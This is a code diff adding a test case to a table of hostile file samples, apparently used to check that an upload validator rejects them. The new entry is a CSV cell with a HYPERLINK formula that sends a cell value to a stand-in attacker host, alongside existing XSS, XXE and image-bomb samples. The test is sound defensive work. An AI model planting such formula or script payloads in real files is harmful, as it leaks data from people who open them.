@@ -95,6 +95,11 @@ HOSTILE = {
     ),
     "xxe in a word document": ("review.docx", zip_bytes(docx_entries(XXE)), "entity declarations"),
     "image bomb": ("diagram.png", png_header_only(20_000, 20_000), "megapixels"),
+    "csv with a formula": (
+        "hosts.csv",
+        b'host,finding\nweb-1,"=HYPERLINK(""https://evil.example/?""&A1)"\n',
+        "would run as a formula",
+    ),
     "html named text": (
         "notes.txt",
         b"<html><script>alert(1)</script></html>",
